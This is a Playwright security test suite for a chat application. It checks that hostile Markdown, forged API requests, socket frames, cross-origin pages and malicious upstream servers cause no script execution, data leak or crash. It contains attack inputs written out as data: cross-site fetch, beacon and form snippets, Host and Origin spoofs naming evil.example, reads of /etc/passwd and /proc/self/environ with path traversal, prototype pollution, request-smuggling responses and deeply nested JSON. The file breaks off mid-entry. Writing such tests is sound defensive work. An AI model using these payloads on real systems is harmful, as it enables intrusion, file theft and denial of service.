import { createSocket } from 'node:dgram';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createServer, type Socket } from 'node:net';
import type { Page } from '@playwright/test';
import { io } from 'socket.io-client';
import { expect, type SluiceApp, test } from './app.fixture.ts';
import { type Canary, startCanary } from './attacks/canary-server.ts';
import { type HostileText, hostileTexts } from './attacks/hostile-markdown.ts';
import { HOSTILE_PATHS } from './attacks/hostile-paths.ts';
import { finish, reasoning, text } from './fake-upstream/script.ts';

// The attack corpus. Whatever an answer, a page from elsewhere, a program or an upstream says: nothing runs, nothing is
// asked of another origin, nothing is asked of the host but what the page asks for anyway, and everything goes on.

let canary: Canary;
test.beforeAll(async () => {
  canary = await startCanary();
});
test.afterAll(() => canary.close());
test.beforeEach(() => {
  canary.hits.length = 0;
});

function count(name: string, entries: number): void {
  process.stdout.write(`attack corpus, ${name}: ${entries} entries\n`);
}

async function connect(app: SluiceApp, baseUrl = app.fake.url): Promise<void> {
  await app.request('profiles.create', { name: 'fake', kind: 'openai-chat', baseUrl, defaultModel: 'm' });
  await app.request('settings.set', { values: { defaultProfile: 'fake' } });
}

/** What the page asks of its host, and what it must not do at all. */
function watch(page: Page) {
  const calls = new Set<string>();
  const wrong: string[] = [];
  const own = new URL(page.url());
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol === 'data:' || url.protocol === 'blob:') return;
    if (url.host !== own.host) wrong.push(`request ${request.url()}`);
    else if (url.pathname.startsWith('/api/')) calls.add(`${request.method()} ${url.pathname}`);
    else if (/passwd|win\.ini|socket\.io.*CANARY/.test(url.pathname)) calls.add(`file ${url.pathname}`);
  });
  // The policy stopped it within the browser: it never left, which the canary confirms.
  page.on('requestfailed', (request) => {
    const at = wrong.indexOf(`request ${request.url()}`);
    if (at >= 0 && /csp/i.test(request.failure()?.errorText ?? '')) wrong.splice(at, 1);
  });
  page.on('websocket', (socket) => {
    if (new URL(socket.url()).host !== own.host) wrong.push(`socket ${socket.url()}`);
  });
  page.on('dialog', (dialog) => {
    wrong.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.context().on('page', (opened) => {
    if (opened.url() !== 'about:blank') wrong.push(`window ${opened.url()}`);
  });
  page.on('framenavigated', (frame) => {
    const { host, pathname, protocol } = new URL(frame.url() === '' ? 'about:blank' : frame.url());
    const isOwn = host === own.host && (frame.parentFrame() === null || pathname === '/frames/diagram.html');
    // What the browser puts into a frame that it kept from going elsewhere.
    const isRefusal = protocol === 'chrome-error:' && frame.parentFrame() !== null;
    if (!isOwn && !isRefusal && protocol !== 'about:') wrong.push(`navigation ${frame.url()}`);
  });
  return { calls, wrong };
}

/** What is wrong in the page itself: something ran, something stands in it that must not, or the page has gone. */
function findTraces(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ('hacked' in window) found.push('a script ran');
    if (Reflect.get({}, 'polluted') !== undefined) found.push('a prototype was changed');
    const main = document.getElementById('main');
    if (main === null || document.getElementById('root') === null) return [...found, 'the page has gone'];
    const banned =
      'script, object, embed, applet, base, meta, form:not(:has([data-testid="composer-input"]), [data-testid="mend-key"]), frame, frameset, portal, webview, link, style, [srcdoc]';
    for (const each of main.querySelectorAll(banned)) found.push(`<${each.tagName.toLowerCase()}>`);
    for (const frame of main.querySelectorAll('iframe')) {
      if (frame.getAttribute('sandbox') !== 'allow-scripts') found.push('a frame without its sandbox');
      if (frame.getAttribute('src') !== '/frames/diagram.html') found.push(`a frame of ${frame.src}`);
    }
    for (const each of main.querySelectorAll('*')) {
      for (const name of each.getAttributeNames()) {
        const value = each.getAttribute(name) ?? '';
        if (name.startsWith('on') || name === 'ping' || name === 'formaction') found.push(`${name} at ${each.tagName}`);
        if (name === 'style' && /url\(|expression|position:\s*fixed/i.test(value))
          found.push(`style ${value.slice(0, 80)}`);
        if (name === 'id' && ['root', 'sluice', 'document', 'attributes', 'trustedTypes'].includes(value))
          found.push(`id ${value}`);
        const isMath = each.namespaceURI !== 'http://www.w3.org/1999/xhtml';
        if (name === 'href' && !isMath && !/^(https?:|mailto:|#)/.test(value)) found.push(`href ${value}`);
        if (
          (name === 'src' || name === 'srcset') &&
          !/^(\/media\/|\/frames\/diagram\.html$|data:image\/|blob:)/.test(value)
        ) {
          found.push(`${name} ${value}`);
        }
      }
    }
    return found;
  });
}

/** How long a poll waits before it looks again: a hundred times the tenth of a second that is usual would be long. */
const OFTEN = [10, 20, 40, 100];

async function say(app: SluiceApp, { id, text: words }: HostileText): Promise<void> {
  const { page, fake } = app;
  // The same in every place where foreign text is shown: the title, the message, the thoughts and the answer.
  const { id: sessionId } = await app.request('sessions.create', { title: `${id} ${words}`.slice(0, 200) });
  fake.next([reasoning(words), text(words), finish()]);
  await app.request('chat.run', { session_id: sessionId, input: words, profile: 'fake' });
  await expect
    .poll(async () => (await app.request('sessions.get', { sessionId })).lastStatus, {
      timeout: 15_000,
      intervals: OFTEN,
    })
    .toBe('success');
  await page.evaluate((wanted) => {
    window.location.hash = `session=${wanted}`;
  }, sessionId);
  await expect(page.getByTestId('message-assistant').last()).toHaveAttribute('data-state', 'done');
}

/** What the page reads by itself, whatever an answer says. It changes nothing. */
const OWN_READS =
  /^POST \/api\/app\/(sessions\.(list|get|page|context|fit)|usage\.(summary|budgets|session|runs)|profiles\.(list|health|leftovers)|credentials\.(list|health)|proxies\.list|runs\.(list|get)|models\.overrides|settings\.get|app\.info|links\.pending|feedback\.list|prompts\.list|localApi\.state|data\.store|updates\.state)$/;

/** The corpus is cut into parts, so that they run beside each other and each stays within its time. */
const PARTS = 6;

for (let part = 0; part < PARTS; part++) {
  test(`[E6-07] [E1-01] hostile text runs nothing and reaches nobody (part ${part + 1} of ${PARTS})`, async ({
    app,
  }) => {
    test.setTimeout(240_000);
    const all = hostileTexts(canary.address);
    const mine = all.filter((_entry, index) => index % PARTS === part);
    if (part === 0) count('hostile text in answers, thoughts, messages and titles', all.length);
    await connect(app);
    await app.page.reload();
    const { calls, wrong } = watch(app.page);
    await say(app, { id: 'harmless', text: 'Plain words, `code`, a [link](https://example.com/) and **more**.' });
    expect(calls.size).toBeGreaterThan(0);
    // What the frame's own policy stops is told by the browser; nothing else may be.
    app.expectConsoleError(/frames\/(diagram|mermaid)|about:srcdoc|sandboxed/);
    // Pictures that name a file of this computer are asked for where files are served, and refused there.
    app.expectConsoleError(/status of 40[0-9].*\/media\//);
    for (const entry of mine) {
      await say(app, entry);
      const diagram = app.page.locator('[data-drawn="false"]');
      await expect(diagram, entry.id).toHaveCount(0, { timeout: 20_000 });
      expect.soft(await findTraces(app.page), entry.id).toEqual([]);
      expect.soft(wrong, entry.id).toEqual([]);
      expect.soft(canary.hits, entry.id).toEqual([]);
      wrong.length = 0;
      canary.hits.length = 0;
    }
    expect([...calls].filter((call) => !OWN_READS.test(call) && !call.includes('media'))).toEqual([]);
    // And the page still does what it is for.
    await say(app, { id: 'after', text: 'Still here.' });
    await expect(app.page.getByTestId('message-assistant').last()).toContainText('Still here.');
  });
}

function ask(
  url: string,
  options: { method?: string; path: string; headers?: Record<string, string>; body?: string },
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = new URL(url);
    const { method = 'POST', path, headers = {}, body } = options;
    const request = httpRequest({ hostname, port, path, method, headers }, (response) => {
      let received = '';
      response.on('data', (chunk: Buffer) => {
        received += chunk.toString();
      });
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body: received }));
    });
    request.on('error', reject);
    request.end(body);
  });
}

const DEEP = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;

test('[E1-08] [BUG-A31] [BUG-A32] hostile requests get nothing, change nothing and end nothing', async ({ app }) => {
  test.skip(app.host === 'electron', 'In the desktop application nothing listens; its protocol is tested on the stub.');
  test.setTimeout(120_000);
  const { url, token } = app.server ?? { url: '', token: '' };
  const { port } = new URL(url);
  const json = { 'content-type': 'application/json' };
  const own = { ...json, authorization: `Bearer ${token}` };
  const before = JSON.stringify(await app.request('settings.get', {}));
  type Entry = { id: string; path: string; method?: string; headers?: Record<string, string>; body?: string };
  const names = [
    'evil.example',
    `evil.example:${port}`,
    `127.0.0.1.evil.example:${port}`,
    `127.0.0.1:${port}.evil.example`,
    `localhost.evil.example:${port}`,
    `0.0.0.0:${port}`,
    `127.0.0.2:${port}`,
    `[::ffff:127.0.0.1]:${port}`,
    `2130706433:${port}`,
    `localhost:1`,
    `127.0.0.1`,
    `user@127.0.0.1:${port}`,
    `127.0.0.1:${port}@evil.example`,
    `[::1].evil.example:${port}`,
  ];
  const origins = [
    'http://evil.example',
    'https://127.0.0.1',
    `https://127.0.0.1:${port}`,
    'http://127.0.0.1:1',
    'null',
    `http://127.0.0.1:${port}.evil.example`,
    `http://evil.example/#http://127.0.0.1:${port}`,
    'file://',
    'app://sluice',
    'chrome-extension://x',
  ];
  const change = '{"values":{"theme":"dark","localApiEnabled":true}}';
  const settings = '/api/app/settings.set';
  const entries: Entry[] = [
    ...names.map((host) => ({ id: `host ${host}`, path: settings, headers: { ...own, host }, body: change })),
    ...names.map((host) => ({ id: `page for ${host}`, method: 'GET', path: '/', headers: { host } })),
    ...origins.map((origin) => ({ id: `origin ${origin}`, path: settings, headers: { ...own, origin }, body: change })),
    ...[
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'text/plain; application/json',
      'application/jsonp',
      'text/json',
    ].map((type) => ({ id: `type ${type}`, path: settings, headers: { ...own, 'content-type': type }, body: change })),
    ...['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PROPFIND', 'TRACE'].map((method) => ({
      id: `method ${method}`,
      method,
      path: settings,
      headers: own,
    })),
    { id: 'no token', path: settings, headers: json, body: change },
    { id: 'token in the address', path: `${settings}?token=${token}`, headers: json, body: change },
    {
      id: 'token as a cookie',
      path: settings,
      headers: { ...json, cookie: `token=${token}; sluice=${token}` },
      body: change,
    },
    {
      id: 'token as basic',
      path: settings,
      headers: { ...json, authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}` },
      body: change,
    },
    { id: 'empty bearer', path: settings, headers: { ...json, authorization: 'Bearer ' }, body: change },
    {
      id: 'half a token',
      path: settings,
      headers: { ...json, authorization: `Bearer ${token.slice(0, 32)}` },
      body: change,
    },
    ...['__proto__', 'constructor', 'prototype'].flatMap((key) => [
      { id: `${key} on top`, path: settings, headers: own, body: `{"${key}":{"polluted":1},"values":{}}` },
      { id: `${key} within`, path: settings, headers: own, body: `{"values":{"${key}":{"theme":"dark"}}}` },
      { id: `${key} as a route`, path: `/api/app/${key}`, headers: own, body: '{}' },
    ]),
    ...['toString', 'hasOwnProperty', '..%2f..%2fx', 'settings.set%00', 'SETTINGS.SET', ''].map((route) => ({
      id: `route ${route}`,
      path: `/api/app/${route}`,
      headers: own,
      body: change,
    })),
    {
      id: '9 MB',
      path: settings,
      headers: own,
      body: JSON.stringify({ values: { systemPrompt: 'x'.repeat(9_000_000) } }),
    },
    { id: 'deep', path: settings, headers: own, body: `{"values":${'['.repeat(100_000)}${']'.repeat(100_000)}}` },
    {
      id: 'wide',
      path: settings,
      headers: own,
      body: `{"values":{${Array.from({ length: 120_000 }, (_, at) => `"k${at}":1`).join(',')}}}`,
    },
    { id: 'many same keys', path: settings, headers: own, body: `{${'"values":1,'.repeat(50_000)}"values":2}` },
    { id: 'half a character', path: '/api/app/sessions.get', headers: own, body: '{"sessionId":"\\ud800"}' },
    { id: 'a number past all', path: settings, headers: own, body: '{"values":{"maxConcurrentRuns":1e999}}' },
    { id: 'not JSON', path: settings, headers: own, body: '{values:' },
    ...['../../../etc/cron.d/x', '/etc/passwd', 'a\0b', '..\\..\\x', 'CON', 'x/../../y'].map((name) => ({
      id: `upload past the end ${JSON.stringify(name)}`,
      path: '/api/app/attachments.append',
      headers: own,
      body: JSON.stringify({ uploadId: name, offsetBytes: 0, data: 'eA==' }),
    })),
    // What a picture, a script or a frame of another page asks for carries no Origin, only what the browser says of it.
    ...['/', '/openapi.json', '/assets/', '/v1/models', '/socket.io/?EIO=4&transport=polling'].flatMap((path) =>
      ['image', 'script', 'style', 'iframe', 'object'].map((dest) => ({
        id: `${dest} of ${path} for another page`,
        method: 'GET',
        path,
        headers: {
          'sec-fetch-site': 'cross-site',
          'sec-fetch-mode': dest === 'iframe' ? 'navigate' : 'no-cors',
          'sec-fetch-dest': dest,
        },
      })),
    ),
    ...['/v1/chat/completions', '/v1/messages', '/v1/responses'].flatMap((path) => [
      {
        id: `deep ${path}`,
        path,
        headers: own,
        body: `{"model":"demo/demo","max_tokens":1,"messages":[{"role":"user","content":${DEEP}}],"input":${DEEP}}`,
      },
      {
        id: `deep tools ${path}`,
        path,
        headers: own,
        body: `{"model":"demo/demo","max_tokens":1,"tools":[${DEEP}],"messages":[{"role":"user","content":"x"}],"input":"x"}`,
      },
    ]),
    { id: 'two million numbers', path: settings, headers: own, body: `{"values":[${'0,'.repeat(2_000_000)}0]}` },
    {
      id: 'two million numbers for a program',
      path: '/api/threads',
      headers: own,
      body: `{"metadata":{"a":[${'0,'.repeat(2_000_000)}0]}}`,
    },
    ...['__proto__', 'constructor', 'toString', 'a\nb', '\u202ex', '\u0000'].flatMap((name) => [
      {
        id: `a thread called ${JSON.stringify(name)}`,
        path: '/api/threads',
        headers: own,
        body: JSON.stringify({ thread_id: name }),
      },
      {
        id: `a run in a thread called ${JSON.stringify(name)}`,
        path: `/api/threads/${encodeURIComponent(name)}/runs`,
        headers: own,
        body: '{"assistant_id":"demo","input":{"messages":"x"}}',
      },
    ]),
    ...HOSTILE_PATHS.map((path) => ({
      id: `path ${path}`,
      method: 'GET',
      path: encodeURI(path).replaceAll('%25', '%'),
      headers: { authorization: `Bearer ${token}` },
    })),
  ];
  count('hostile requests', entries.length);
  for (const { id, ...options } of entries) {
    const reply = await ask(url, options).catch((thrown: unknown) => ({ status: 400, body: String(thrown) }));
    expect.soft(reply.status, id).toBeGreaterThanOrEqual(400);
    expect.soft(reply.status, id).toBeLessThan(500);
    expect.soft(reply.body, id).not.toMatch(/root:.*:0:0|SQLite format|PATH=|"main":\s*"out/);
    expect.soft(reply.body, id).not.toContain(token);
  }
  expect(JSON.stringify(await app.request('settings.get', {}))).toBe(before);
  expect((await app.request('sessions.list', {})).sessions).toEqual([]);
  await expect(app.page.getByTestId('composer-input')).toBeVisible();
});

test('[E1-02] [E1-03] hostile frames over the socket are answered or dropped, and harm nobody', async ({ app }) => {
  test.skip(app.host === 'electron', 'In the desktop application nothing listens.');
  const { url, token } = app.server ?? { url: '', token: '' };
  const options = { auth: { token }, transports: ['websocket'], reconnection: false };
  const payloads: unknown[] = [
    JSON.parse('{"session_id":"s","__proto__":{"polluted":1}}'),
    JSON.parse('{"session_id":"s","input":"x","constructor":{"prototype":{"polluted":1}}}'),
    { session_id: { toString: 'x' } },
    { session_id: ['s'] },
    { session_id: 's'.repeat(200) },
    { session_id: 's', input: 'x'.repeat(2_000_001) },
    { session_id: 's', input: Array.from({ length: 2000 }, () => ({ type: 'text', text: '' })) },
    { session_id: 's', input: Buffer.alloc(1024) },
    { session_id: 's', input: null },
    { session_id: '\ud800', input: 'x' },
    Array.from({ length: 10_000 }, () => 0),
    'x'.repeat(100_000),
    -1,
    true,
  ];
  const events = ['run', 'abort', 'resume', 'queue_edit', 'approval_respond'];
  count('hostile frames over the socket', payloads.length * events.length + 5);
  const socket = io(`${url}/chat-run`, options);
  await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
  for (const event of events) {
    for (const payload of payloads) {
      const answer = (await socket.timeout(10_000).emitWithAck(event, payload)) as { ok: boolean };
      expect.soft(answer.ok, `${event} ${JSON.stringify(payload)?.slice(0, 60) ?? ''}`).toBe(false);
    }
  }
  for (const name of ['__proto__', 'constructor', 'settings.set', 'x'.repeat(5000), '../run']) {
    expect.soft(await socket.timeout(10_000).emitWithAck(name, {})).toMatchObject({ ok: false });
  }
  // Beyond the packet's limit the line is cut, and another one can be had.
  const cut = new Promise<void>((resolve) => socket.once('disconnect', () => resolve()));
  socket.emit('run', { session_id: 's', input: 'x'.repeat(9_000_000) });
  await cut;
  const again = io(`${url}/chat-run`, options);
  await new Promise<void>((resolve) => again.once('connect', () => resolve()));
  again.disconnect();
  expect((await app.request('sessions.list', {})).sessions).toEqual([]);
});

/** What a page from elsewhere tries, each with a name; `HOST` is ours. */
const FOREIGN_PAGE: Record<string, string> = {
  'fetch with credentials':
    'fetch("HOST/api/app/settings.set",{method:"POST",credentials:"include",headers:{"content-type":"application/json"},body:BODY}).then(r=>r.text())',
  'simple fetch':
    'fetch("HOST/api/app/settings.set",{method:"POST",mode:"no-cors",headers:{"content-type":"text/plain"},body:BODY}).then(()=>{throw 0})',
  'page as text': 'fetch("HOST/").then(r=>r.text())',
  'page without cors': 'fetch("HOST/",{mode:"no-cors"}).then(r=>r.text()).then(t=>{if(t==="")throw 0;return t})',
  beacon: 'new Promise((_,no)=>{navigator.sendBeacon("HOST/api/app/settings.set",BODY);setTimeout(no,200)})',
  form: 'new Promise((_,no)=>{const f=document.createElement("form");f.method="post";f.enctype="text/plain";f.action="HOST/api/app/settings.set";f.target="x";const i=document.createElement("input");i.name=BODY;f.append(i);document.body.append(f);const w=document.createElement("iframe");w.name="x";document.body.append(w);f.submit();setTimeout(no,300)})',
  frame:
    'new Promise((yes,no)=>{const f=document.createElement("iframe");f.src="HOST/";f.onload=()=>{try{yes(f.contentDocument.body.innerHTML)}catch{no()}};document.body.append(f);setTimeout(no,1000)})',
  script:
    'new Promise((yes,no)=>{const s=document.createElement("script");s.src="HOST/api/app/app.info";s.onload=yes;s.onerror=no;document.body.append(s)})',
  style:
    'new Promise((yes,no)=>{const s=document.createElement("link");s.rel="stylesheet";s.href="HOST/";s.onload=()=>{try{yes(s.sheet.cssRules.length)}catch{no()}};s.onerror=no;document.body.append(s)})',
  image: 'new Promise((yes,no)=>{const i=new Image();i.src="HOST/icon.svg";i.onload=yes;i.onerror=no})',
  media:
    'new Promise((yes,no)=>{const i=new Image();i.src="HOST/media/file?path=/etc/passwd";i.onload=yes;i.onerror=no})',
  events:
    'new Promise((yes,no)=>{const e=new EventSource("HOST/api/threads/x/runs/y/stream");e.onopen=yes;e.onerror=no})',
  socket:
    'new Promise((yes,no)=>{const w=new WebSocket("HOST/socket.io/?EIO=4&transport=websocket".replace("http","ws"));w.onopen=yes;w.onerror=no})',
  polling: 'fetch("HOST/socket.io/?EIO=4&transport=polling").then(r=>r.text())',
  worker:
    'new Promise((yes,no)=>{try{const w=new Worker("HOST/assets/x.js");w.onmessage=yes;w.onerror=no}catch{no()}})',
  window:
    'new Promise((yes,no)=>{const w=open("HOST/");setTimeout(()=>{try{yes(w.document.body.innerHTML)}catch{no()}w&&w.close()},500)})',
};

test('[E1-08] [BUG-A32] a page from elsewhere reads nothing, changes nothing and frames nothing', async ({ app }) => {
  test.skip(app.host === 'electron', 'In the desktop application nothing listens.');
  const { url } = app.server ?? { url: '' };
  const before = JSON.stringify(await app.request('settings.get', {}));
  canary.serve('/evil.html', '<!doctype html><title>evil</title><body>evil</body>');
  // The same browser that shows our page, with its cookies.
  const page = await app.page.context().newPage();
  await page.goto(`${canary.address}/evil.html`);
  count('a page from elsewhere', Object.keys(FOREIGN_PAGE).length);
  for (const [name, code] of Object.entries(FOREIGN_PAGE)) {
    const attempt = code.replaceAll('HOST', url).replaceAll('BODY', `'{"values":{"theme":"dark"}}'`);
    const got = await page.evaluate(
      async (source) =>
        Promise.race([
          // The attacker's own page has no policy, so it may.
          Promise.resolve()
            .then(() => (new Function(`return ${source}`) as () => unknown)())
            .then(
              (value) => `got ${String(value).slice(0, 40)}`,
              () => 'nothing',
            ),
          new Promise<string>((resolve) =>
            AbortSignal.timeout(3000).addEventListener('abort', () => resolve('nothing')),
          ),
        ]),
      attempt,
    );
    expect.soft(got, name).toBe('nothing');
  }
  await page.close();
  expect(JSON.stringify(await app.request('settings.get', {}))).toBe(before);
  expect((await app.request('sessions.list', {})).sessions).toEqual([]);
});

test('[E1-01] [E2-23] an address that names an odd conversation leaves the page as it is', async ({ app }) => {
  const { page } = app;
  const odd = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'a\nb', '\u0000', '\u202e', 'x'.repeat(5000)];
  count('names of conversations in an address', odd.length);
  for (const name of odd) {
    await page.evaluate((wanted) => {
      window.location.hash = `session=${encodeURIComponent(wanted)}`;
    }, name);
    await expect.poll(() => page.evaluate(() => window.location.hash), { message: name }).toBe('');
    await expect(page.getByTestId('composer-input'), name).toBeVisible();
  }
  await page.reload();
  await expect(page.getByTestId('composer-input')).toBeVisible();
});

test('[E6-07] [BUG-A31] a message that names a file from outside sends nothing of it', async ({ app }) => {
  await connect(app);
  const paths = [
    '/etc/passwd',
    '/proc/self/environ',
    `${app.dataDir}/sluice.db`,
    '../../../../etc/passwd',
    '/etc/passwd\0.png',
  ];
  count('files that a message must not reach', paths.length * 2);
  for (const path of paths) {
    for (const type of ['file', 'image'] as const) {
      app.fake.next([text('Fine.'), finish()]);
      const block = { type, name: 'x', path, media_type: type === 'image' ? 'image/png' : 'text/plain' };
      const { id: sessionId } = await app.request('sessions.create', { title: path });
      await app.requestResult('chat.run', {
        session_id: sessionId,
        input: [{ type: 'text', text: 'Read' }, block],
        profile: 'fake',
      });
      await expect.poll(async () => (await app.request('sessions.get', { sessionId })).state).toBe('idle');
    }
  }
  const sent = JSON.stringify(app.fake.requests.map(({ body }) => body));
  expect(sent).not.toMatch(/root:|PATH=|SQLite format|cm9vdDp4|U1FMaXRl/);
});

const HEAD = 'HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\n';
const chunk = (words: string) =>
  `data: ${JSON.stringify({ id: 'x', choices: [{ index: 0, delta: { content: words } }] })}\n\n`;
const END = `data: ${JSON.stringify({ id: 'x', choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] })}\n\ndata: [DONE]\n\n`;

/** What an upstream sends back, byte by byte. */
const HOSTILE_UPSTREAM: Record<string, (address: string) => string> = {
  'huge header': () => `HTTP/1.1 200 OK\r\nx-a: ${'a'.repeat(200_000)}\r\n\r\n`,
  'many headers': () =>
    `HTTP/1.1 200 OK\r\n${Array.from({ length: 5000 }, (_, at) => `x-${at}: 1`).join('\r\n')}\r\n\r\n`,
  'header without an end': () => `HTTP/1.1 200 OK\r\nx-a: ${'a'.repeat(1_000_000)}`,
  'control characters in headers': () => 'HTTP/1.1 200 OK\r\nx-a: \u0001\u0002\r\n\r\n',
  'two lengths': () => 'HTTP/1.1 200 OK\r\ncontent-length: 5\r\ncontent-length: 50\r\n\r\nhello',
  'length and chunks': () => 'HTTP/1.1 200 OK\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n',
  'no HTTP at all': () => 'SSH-2.0-OpenSSH_9.0\r\n',
  'status out of range': () => 'HTTP/1.1 999 Odd\r\ncontent-length: 0\r\n\r\n',
  'redirect elsewhere': (address) =>
    `HTTP/1.1 302 Found\r\nlocation: ${address}/hit/redirect\r\ncontent-length: 0\r\n\r\n`,
  'redirect that keeps the body': (address) =>
    `HTTP/1.1 307 Temporary\r\nlocation: ${address}/hit/redirect307\r\ncontent-length: 0\r\n\r\n`,
  'refresh and link headers': (address) =>
    `${HEAD}refresh: 0;url=${address}\r\nlink: <${address}>; rel=preload\r\nset-cookie: a=b\r\n\r\n${chunk('fine')}${END}`,
  'authentication asked for': () =>
    'HTTP/1.1 401 No\r\nwww-authenticate: Basic realm="<script>"\r\ncontent-length: 0\r\n\r\n',
  'proxy authentication': () => 'HTTP/1.1 407 No\r\nproxy-authenticate: Basic\r\ncontent-length: 0\r\n\r\n',
  'switching protocols': () => 'HTTP/1.1 101 Switching\r\nupgrade: h2c\r\nconnection: upgrade\r\n\r\nx',
  'an error as a page': () =>
    'HTTP/1.1 500 No\r\ncontent-type: text/html\r\n\r\n<script>window.hacked=1</script>\u001b[31m\u202e',
  'an error without an end': () => `HTTP/1.1 500 No\r\n\r\n${'x'.repeat(3_000_000)}`,
  'line without an end': () => `${HEAD}\r\ndata: ${'x'.repeat(9_000_000)}`,
  'many empty lines': () => `${HEAD}\r\n${'\n'.repeat(2_000_000)}${END}`,
  'many comments': () => `${HEAD}\r\n${': x\n\n'.repeat(300_000)}${END}`,
  'frames of nothing': () => `${HEAD}\r\n${'data: {}\n\n'.repeat(50_000)}${END}`,
  'frames of a prototype': () =>
    `${HEAD}\r\ndata: {"__proto__":{"polluted":1},"choices":[{"delta":{"__proto__":{"content":"x"}}}]}\n\n${chunk('fine')}${END}`,
  'frames that forge events': () =>
    `${HEAD}\r\nevent: run.completed\nid: 999\nretry: 1\n${chunk('event: abort\n\ndata: {"x":1}\n\n')}${END}`,
  'choices that are none': () =>
    `${HEAD}\r\ndata: {"choices":"x"}\n\ndata: {"choices":[null,5]}\n\ndata: {"choices":[{"delta":5}]}\n\ndata: []\n\ndata: null\n\n${END}`,
  'tool calls out of order': () =>
    `${HEAD}\r\ndata: {"choices":[{"delta":{"tool_calls":[{"index":4000000000,"id":{},"function":{"name":["x"],"arguments":7}}]}}]}\n\n${END}`,
  'usage past all numbers': () =>
    `${HEAD}\r\n${chunk('fine')}data: {"usage":{"prompt_tokens":1e308,"completion_tokens":-5,"total_tokens":"x"}}\n\n${END}`,
  'deep JSON': () => `${HEAD}\r\ndata: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n\n${END}`,
  'half characters': () => `${HEAD}\r\n${chunk('\ud800').replace('\\ud800', '\\ud800')}${END}`,
  'NUL and escapes': () => `${HEAD}\r\n${chunk('\u0000\u001b[2J\u001b]0;x\u0007\u202e')}${END}`,
  'tools without end': () =>
    `${HEAD}\r\n${Array.from({ length: 20_000 }, (_, at) => `data: {"choices":[{"delta":{"tool_calls":[{"index":${at},"id":"c${at}","function":{"name":"t","arguments":"{}"}}]}}]}\n\n`).join('')}${END}`,
  'tools and ids that are names of objects': () =>
    `${HEAD}\r\ndata: ${JSON.stringify({ choices: [{ delta: { tool_calls: [{ index: 0, id: '__proto__', function: { name: 'constructor', arguments: '{"__proto__":{"polluted":1}}' } }] } }] })}\n\n${END}`,
  'interim answers without end': () => 'HTTP/1.1 100 Continue\r\n\r\n'.repeat(20_000),
  'early hints': (address) =>
    `HTTP/1.1 103 Early Hints\r\nlink: <${address}>; rel=preload\r\n\r\n${HEAD}\r\n${chunk('fine')}${END}`,
  'not modified, with a body': () => 'HTTP/1.1 304 Not Modified\r\ncontent-length: 5\r\n\r\nhello',
  'a field of a megabyte': () =>
    `${HEAD}\r\ndata: {"${'k'.repeat(1_500_000)}":1,"choices":[{"delta":{"content":"x"}}]}\n\n${END}`,
  'an error within errors': () =>
    `HTTP/1.1 400 No\r\ncontent-type: application/json\r\n\r\n${'{"error":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
  'limits that never end': () =>
    'HTTP/1.1 503 No\r\nretry-after: Fri, 31 Dec 9999 23:59:59 GMT\r\ncontent-length: 0\r\n\r\n',
  'a bad encoding': () => `${HEAD}content-encoding: gzip\r\n\r\nnot gzip`,
  'nothing at all': () => '',
};

test('[E7-01] [E1-01] whatever an upstream sends, the run ends in words and the host goes on', async ({ app }) => {
  test.setTimeout(240_000);
  const open = new Set<Socket>();
  let bytes = '';
  const server = createServer((socket) => {
    open.add(socket);
    socket.on('close', () => open.delete(socket));
    // The host may hang up on what it has read enough of.
    socket.on('error', () => undefined);
    socket.once('data', () => socket.end(bytes));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    await connect(app, `http://127.0.0.1:${(server.address() as AddressInfo).port}`);
    await app.request('settings.set', { values: { headersTimeoutMs: 5000, idleTimeoutMs: 5000 } });
    await app.page.reload();
    const { wrong } = watch(app.page);
    count('hostile upstreams', Object.keys(HOSTILE_UPSTREAM).length);
    for (const [name, make] of Object.entries(HOSTILE_UPSTREAM)) {
      bytes = make(canary.address);
      const { id: sessionId } = await app.request('sessions.create', { title: name });
      await app.request('chat.run', { session_id: sessionId, input: 'Go', profile: 'fake' });
      await expect
        .poll(async () => (await app.request('sessions.get', { sessionId })).lastStatus, {
          message: name,
          timeout: 40_000,
          intervals: OFTEN,
        })
        .toMatch(/^(success|error)$/);
      const { runs } = await app.request('runs.list', { sessionId });
      if (runs[0]?.status === 'error') expect.soft(runs[0].error ?? '', name).toMatch(/^[\s\S]{10,2000}$/);
      await app.page.evaluate((wanted) => {
        window.location.hash = `session=${wanted}`;
      }, sessionId);
      await expect(app.page.getByTestId('message-user').last()).toBeVisible();
      expect.soft(await findTraces(app.page), name).toEqual([]);
    }
    expect(wrong).toEqual([]);
    expect(canary.hits).toEqual([]);
  } finally {
    for (const socket of open) socket.destroy();
    server.close();
  }
});

/** What a script would try that had taken over the frame of a diagram. `AT` is the canary's address. */
const FROM_WITHIN: Record<string, string> = {
  fetch: 'fetch("AT")',
  'fetch without cors': 'fetch("AT",{mode:"no-cors",keepalive:true})',
  'fetch of the host': 'return fetch("/api/app/app.info",{method:"POST",body:"{}"})',
  xhr: 'new Promise((y,n)=>{const x=new XMLHttpRequest();x.onload=y;x.onerror=n;x.open("GET","AT");x.send()})',
  beacon: 'navigator.sendBeacon("AT","x");throw 0',
  socket: 'new Promise((y,n)=>{const w=new WebSocket("AT".replace("http","ws"));w.onopen=y;w.onerror=n})',
  events: 'new Promise((y,n)=>{const e=new EventSource("AT");e.onopen=y;e.onerror=n})',
  transport: 'new WebTransport("AT".replace("http:","https:")).ready',
  image: 'new Promise((y,n)=>{const i=new Image();i.onload=y;i.onerror=n;i.src="AT"})',
  script:
